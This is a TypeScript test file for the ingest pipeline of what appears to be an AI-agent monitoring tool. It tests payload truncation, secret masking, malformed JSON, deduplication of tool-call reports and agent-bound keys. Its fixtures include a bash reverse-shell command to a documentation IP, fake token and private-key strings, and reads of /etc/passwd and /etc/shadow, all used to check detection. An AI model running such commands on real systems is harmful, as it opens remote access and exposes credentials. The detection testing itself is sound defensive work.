import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { OrgId, Principal, Surface } from '@sentinelmesh/api'
import { LIMITS } from '@sentinelmesh/api/constants'
import { acceptMapped } from '../src/ingest/accept-mapped.ts'
import type { Outcome } from '../src/ingest/accept.ts'
import { anchorOf } from '@sentinelmesh/telemetry'
import type { MappedEntry } from '@sentinelmesh/telemetry'
import type { OpenDecider } from '../src/ingest/ingest.ts'
import { startMesh, type Mesh } from './start-mesh.ts'

let mesh: Mesh
beforeAll(async () => (mesh = await startMesh()))
afterAll(() => mesh[Symbol.asyncDispose]())

let calls = 0
const nextCall = () => `toolu_${String((calls += 1)).padStart(16, '0')}`

function mapped(parts: Partial<MappedEntry> = {}): MappedEntry {
  return {
    source: 'claude_code',
    kind: 'tool_call',
    sender: 'agent.claude-code',
    receiver: 'tool.Bash',
    session: 's-1',
    context: 'shell_command',
    payload: { type: 'text', text: 'ls' },
    at: null,
    attributes: { source: 'claude_code' },
    anchor: anchorOf({ callId: nextCall() }),
    ...parts,
  }
}

interface As {
  readonly keyId?: string
  readonly senderPrefix?: string
  readonly surface?: Surface
  readonly late?: true
}

async function take(entries: readonly MappedEntry[], as: As = {}): Promise<readonly Outcome[]> {
  const { keyId = 'telemetry', senderPrefix = null, surface = 'otlp', late } = as
  const org = await mesh.running.deps.orgBySlug(mesh.first.slug)
  if (org === undefined) throw new Error('The org does not exist.')
  const principal: Principal = {
    type: 'key',
    org,
    keyId,
    scopes: ['ingest'],
    senderPrefix,
    keepUnknown: false,
    entriesPerSecond: null,
  }
  const { ingest } = mesh.running.deps
  const openDecider: OpenDecider = async (of) => ({
    rules: await ingest.ruleSets.of(of),
    decide: () => ({ verdict: null, would: null, unjudged: late === true }),
  })
  return acceptMapped(ingest, { principal, action: 'logs.report', surface, remoteAddress: null }, entries, openDecider)
}

const accepted = (outcomes: readonly Outcome[]) =>
  outcomes.map((outcome) => {
    if ('refused' in outcome) throw outcome.refused
    return outcome.accepted
  })
const takeOne = async (entry: MappedEntry, as?: As) => {
  const [one] = accepted(await take([entry], as))
  if (one === undefined) throw new Error('one entry has one outcome')
  return one
}
const stored = (id: string) => mesh.first.reader.trpc.logs.get.query({ id })

const REVERSE_SHELL = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'
const PADDING = 'all is well; '.repeat(40_000)
const rulesOf = ({ matches }: { readonly matches: readonly { readonly ruleId: string }[] }) =>
  matches.map(({ ruleId }) => ruleId)

describe('an entry over the storage limits', () => {
  test.each([
    ['text', { type: 'text', text: `${PADDING}${REVERSE_SHELL}` }],
    [
      'text across the end of a window',
      { type: 'text', text: `${'x'.repeat(LIMITS.payloadBytes - 20)} ${REVERSE_SHELL}` },
    ],
    [
      'JSON',
      { type: 'json', text: JSON.stringify({ name: 'Bash', arguments: { note: PADDING, command: REVERSE_SHELL } }) },
    ],
    ['JSON, under a duplicate key', { type: 'json', text: `{"c":"${REVERSE_SHELL}","pad":"${PADDING}","c":"ls"}` }],
    ['one long string in JSON', { type: 'json', text: JSON.stringify({ c: `${PADDING}${REVERSE_SHELL}` }) }],
    ['a long list in JSON', { type: 'json', text: JSON.stringify([...PADDING.split(' '), REVERSE_SHELL]) }],
  ] as const)('is also evaluated after the truncation point: %s', async (_what, payload) => {
    const one = await takeOne(mapped({ payload }))
    expect(rulesOf(one)).toContain('sm-cmd-001')
    const entry = await stored(one.id)
    expect(entry).toMatchObject({ truncated: true, risk: one.risk, payload_type: payload.type })
    expect(entry.size).toBeLessThanOrEqual(LIMITS.payloadBytes)
    expect(payload.text.startsWith(entry.payload.slice(0, 1_000))).toBe(true)
    const ends = entry.matches.flatMap(({ places }) => places.map(({ end }) => end))
    expect(ends.every((end) => end <= entry.payload.length)).toBe(true)
  })

  test('matches a rule on two fields far apart, because every window includes the beginning', async () => {
    const { id } = await mesh.first.manager.trpc.rules.create.mutate({
      text: [
        'title: Writes what is odd',
        'logsource: {product: ai_agent}',
        'detection: {s: {payload.name: Write, payload.arguments.content|contains: odd-mark-77}, condition: s}',
      ].join('\n'),
    })
    const content = `${PADDING}odd-mark-77`
    const payload = { type: 'json', text: JSON.stringify({ name: 'Write', arguments: { content } }) } as const
    expect(rulesOf(await takeOne(mapped({ payload })))).toContain(id)
  })

  test('is truncated without leaving part of a secret', async () => {
    const secret = ['gh', 'p_', 'Kq7Zr2Xv9Lm4Nw6Tb8Yd1Hs3Jf5Pg0CaEuRi'].join('')
    const text = `${'x'.repeat(LIMITS.payloadBytes - 15)} ${secret} ${'y'.repeat(LIMITS.payloadBytes)}`
    const entry = await stored((await takeOne(mapped({ payload: { type: 'text', text } }))).id)
    expect(entry.payload).not.toContain(secret.slice(4, 10))
    expect(entry.payload.length).toBeGreaterThan(LIMITS.payloadBytes / 2)
  })

  test('is truncated without leaving part of a secret even if earlier secrets were masked', async () => {
    const key = (n: number) =>
      `-----BEGIN PRIVATE KEY-----\n${`Kq7Zr2Xv9Lm4Nw6Tb8Yd${n}`.repeat(100)}\n-----END PRIVATE KEY-----\n`
    const text = `${Array.from({ length: 400 }, (_, n) => key(100 + n)).join('')}`
    const entry = await stored((await takeOne(mapped({ payload: { type: 'text', text } }))).id)
    expect(entry).toMatchObject({ truncated: true })
    expect(entry.payload).not.toContain('Zr2Xv9Lm4Nw6')
  })

  test('has its names truncated, and drops the largest attribute and those beyond the maximum count', async () => {
    const long = '😀'.repeat(300)
    const attributes = {
      model: 'm',
      ['__proto__']: 'kept',
      error: `${PADDING}${REVERSE_SHELL}`,
      ...Object.fromEntries(Array.from({ length: 200 }, (_, n) => [`k${n}`, n])),
    }
    const one = await takeOne(mapped({ sender: long, receiver: long, session: long, context: long, attributes }))
    const entry = await stored(one.id)
    expect(entry).toMatchObject({ truncated: true })
    for (const name of [entry.sender, entry.receiver, entry.session, entry.context])
      expect([name?.isWellFormed(), (name?.length ?? 999) <= 256]).toEqual([true, true])
    const { database, orgBySlug } = mesh.running.deps
    const org = (await orgBySlug(mesh.first.slug))?.id as OrgId
    const kept = JSON.parse((await database.logs.get(org, one.id))?.attributes ?? '') as Record<string, unknown>
    expect(Object.keys(kept)).toHaveLength(LIMITS.attributeKeys - 1)
    expect(kept).toMatchObject({ model: 'm', attributes_dropped: 204 - 62 })
    expect(Object.hasOwn(kept, '__proto__')).toBe(true)
    expect(kept).not.toHaveProperty('error')
  })
})

test('a rule on an attribute and the payload also evaluates a dropped attribute', async () => {
  const { id } = await mesh.first.manager.trpc.rules.create.mutate({
    text: [
      'title: Odd error',
      'logsource: {product: ai_agent}',
      'detection: {s: {attributes.error|contains: odd-mark-78, payload: ls}, condition: s}',
    ].join('\n'),
  })
  const one = await takeOne(mapped({ attributes: { error: `${PADDING}odd-mark-78` } }))
  expect(rulesOf(one)).toEqual([id])
  expect((await stored(one.id)).attributes).toEqual({ source: 'claude_code', attributes_dropped: 1 })
})

describe('malformed input', () => {
  test('in text is repaired and marked', async () => {
    const odd = 'a\0b\uD800'
    const entry = mapped({
      sender: odd,
      session: '',
      payload: { type: 'text', text: odd },
      attributes: { [odd]: odd, n: Number.NaN },
    })
    expect(await stored((await takeOne(entry)).id)).toMatchObject({
      sender: 'a\uFFFDb\uFFFD',
      session: null,
      payload: 'a\0b\uFFFD',
      text_repaired: true,
      attributes: { source: 'claude_code', 'a\0b\uFFFD': 'a\0b\uFFFD' },
    })
  })

  test.each([
    ['nests too deep', `${'['.repeat(90_000)}"${REVERSE_SHELL}"${']'.repeat(90_000)}`],
    [
      'nests too deep, in escapes',
      `${'['.repeat(300)}"bash -i >& \\u002fdev\\u002ftcp/203.0.113.7/4444"${']'.repeat(300)}`,
    ],
    ['is invalid', `{"command": "${REVERSE_SHELL}"`],
  ])('as JSON that %s is stored as text and evaluated', async (_what, text) => {
    const one = await takeOne(mapped({ payload: { type: 'json', text } }))
    expect(rulesOf(one)).toContain('sm-cmd-001')
    expect(await stored(one.id)).toMatchObject({ payload_type: 'text', text_repaired: true })
  })

  test('in a timestamp rejects the entry but not the others', async () => {
    const outcomes = await take([mapped({ at: -1 }), mapped({ at: 8e15 }), mapped({ at: Number.NaN }), mapped()])
    expect(outcomes.map((outcome) => ('refused' in outcome ? outcome.refused.message : 'taken'))).toEqual([
      'timestamp lies before 1970.',
      'timestamp lies more than 24 h in the future.',
      'taken',
      'taken',
    ])
  })
})

describe('two reports of one call', () => {
  const callId = () => anchorOf({ callId: nextCall() })
  const call = (anchor: string | null, text = '{"name":"Read","arguments":{"file_path":"/etc/passwd","limit":10}}') =>
    mapped({ anchor, payload: { type: 'json', text }, receiver: 'tool.Read', context: 'tool_call' })

  test('are one entry, whatever the reporter, the endpoint and the order of arguments', async () => {
    const anchor = callId()
    const first = await takeOne(call(anchor))
    const again = {
      ...call(anchor, '{"arguments":{"limit":10,"file_path":"/etc/passwd"},"name":"Read"}'),
      session: null,
    }
    const others = [
      await takeOne(again, { keyId: 'other', surface: 'hook' }),
      await takeOne({ ...again, sender: 'agent.else', source: 'gen_ai', attributes: {} }, { surface: 'mcp' }),
    ]
    await mesh.restart()
    others.push(await takeOne(call(anchor)))
    expect(others).toEqual(others.map(() => ({ ...first, duplicate: true, matches: others[0]?.matches })))
  })

  test('are one entry if they are in one request or concurrent', async () => {
    const anchor = callId()
    const outcomes = await Promise.all(
      Array.from({ length: 12 }, (_, n) => take([call(anchor), call(anchor)], { keyId: `key-${n % 3}` })),
    )
    const all = outcomes.flatMap(accepted)
    expect(new Set(all.map(({ id }) => id)).size).toBe(1)
    expect(all.filter(({ duplicate }) => !duplicate)).toHaveLength(1)
  })

  test('are two entries if the payload differs, so a reused call ID hides nothing', async () => {
    const anchor = callId()
    const [one, two] = accepted(
      await take([call(anchor), call(anchor, '{"name":"Read","arguments":{"file_path":"/etc/shadow","limit":10}}')]),
    )
    expect(two).toMatchObject({ duplicate: false })
    expect(two?.id).not.toBe(one?.id)
  })

  test('are two entries if one reports that the call was unjudged, which is stored once', async () => {
    const anchor = callId()
    const reported = await takeOne(call(anchor))
    const late = await takeOne(call(anchor), { late: true, surface: 'hook' })
    expect(late.id).not.toBe(reported.id)
    expect(await stored(late.id)).toMatchObject({ unjudged: true, surface: 'hook' })
    expect(await takeOne(call(anchor), { late: true, surface: 'hook' })).toMatchObject({ id: late.id, duplicate: true })
  })

  test('are two entries without a call ID', async () => {
    expect(accepted(await take([call(null), call(null)])).map(({ duplicate }) => duplicate)).toEqual([false, false])
  })

  test('are distinguished by content beyond the stored part', async () => {
    const anchor = callId()
    const long = (end: string) => ({ ...call(anchor), payload: { type: 'text', text: `${PADDING}${end}` } as const })
    const [one, same, other] = accepted(await take([long('a'), long('a'), long('b')]))
    expect([same?.id === one?.id, other?.id === one?.id]).toEqual([true, false])
  })
})

describe('a key bound to an agent', () => {
  const as = { senderPrefix: 'agent.claude*' }
  test('can also report entries sent to that agent, whose sender is then only claimed', async () => {
    const sent = await takeOne(mapped(), as)
    const result = await takeOne(
      mapped({ kind: 'tool_result', sender: 'tool.Bash', receiver: 'agent.claude-code' }),
      as,
    )
    expect([(await stored(sent.id)).sender_claimed, (await stored(result.id)).sender_claimed]).toEqual([false, true])
  })
  test('cannot report entries of other agents', async () => {
    const [outcome] = await take([mapped({ sender: 'agent.codex' })], as)
    expect(outcome).toMatchObject({ refused: { message: 'This key may report as agent.claude* only.' } })
  })
})
